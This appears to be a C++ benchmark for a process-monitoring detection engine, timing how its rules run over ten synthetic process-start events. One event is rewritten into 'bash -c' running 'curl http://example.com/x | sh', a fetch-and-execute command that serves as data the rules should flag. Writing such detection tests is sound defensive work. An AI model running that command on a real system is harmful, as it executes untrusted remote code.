// Every rule we ship over new events as they arrive: ten processes that started, ordinary ones and one that rules want.
#include <benchmark/benchmark.h>

#include <algorithm>
#include <memory>
#include <string>
#include <vector>

#include "daemoneye/base/clock.h"
#include "ingest/detector.h"
#include "made_up.h"
#include "mirror/session.h"
#include "samples.h"

namespace {

using de::bench::thread_cpu_ms;

constexpr std::size_t kStarts = 10;

std::vector<de::ingest::NewEvent> starts(de::bench::MadeUpHost& host, const std::string& last_line) {
  const auto collector = std::make_shared<const std::string>("procmond");
  std::vector<de::ingest::NewEvent> out;
  const de::pb::EventBatch batch = host.events(2 * kStarts, 1, 1'767'225'600'000);
  for (const auto& event : batch.events()) {
    if (out.size() == kStarts || event.event_type() != de::pb::EVENT_TYPE_START) continue;
    out.push_back({collector, std::make_shared<const de::pb::ProcessEvent>(event)});
  }
  if (last_line.empty() || out.empty()) return out;
  auto hit = std::make_shared<de::pb::ProcessEvent>(*out.back().event);
  de::pb::ProcessRecord& process = *hit->mutable_process();
  process.set_name("bash");
  process.set_executable_path("/usr/bin/bash");
  process.clear_command_line();
  for (const char* argument : {"bash", "-c"}) process.add_command_line(argument);
  process.add_command_line(last_line);
  out.back().event = std::move(hit);
  return out;
}

// With argument 1, one of the ten raises an alert.
void event_rules(benchmark::State& state) {
  de::ingest::DetectorOptions options;
  options.rules_dirs = {DE_SOURCE_DIR "/packaging/rules"};
  options.budget = de::mirror::kRuleBudget;
  auto detector = de::ingest::Detector::open(std::move(options), de::system_clock());
  if (!detector || !(*detector)->report()->rules->errors.empty()) return state.SkipWithError("the rules do not load");
  de::bench::MadeUpHost host(1'000);
  const auto events = starts(host, state.range(0) == 0 ? "" : "curl http://example.com/x | sh");
  if (events.size() != kStarts) return state.SkipWithError("there are not enough events");
  de::pb::Completeness whole;
  whole.set_complete(true);
  std::uint64_t rules_run = 0;
  std::uint64_t alerts = 0;
  const double begin = thread_cpu_ms();
  for (auto _ : state) {
    const auto round = (*detector)->run_events(events, whole);
    rules_run += round.rules_run;
    alerts += round.alerts.size();
  }
  const auto rounds = static_cast<double>(state.iterations());
  const auto report = (*detector)->report();
  const auto on_event =
      std::ranges::count_if(report->rules->rules, [](const auto& rule) { return rule->runs_on_event(); });
  state.counters["batch_cpu_us"] = (thread_cpu_ms() - begin) * 1'000 / rounds;
  state.counters["rules"] = static_cast<double>(report->rules->rules.size());
  state.counters["on_event"] = static_cast<double>(on_event);
  state.counters["rules_run"] = static_cast<double>(rules_run) / rounds;
  state.counters["alerts"] = static_cast<double>(alerts) / rounds;
}
BENCHMARK(event_rules)->Arg(0)->Arg(1)->Unit(benchmark::kMicrosecond);

}  // namespace
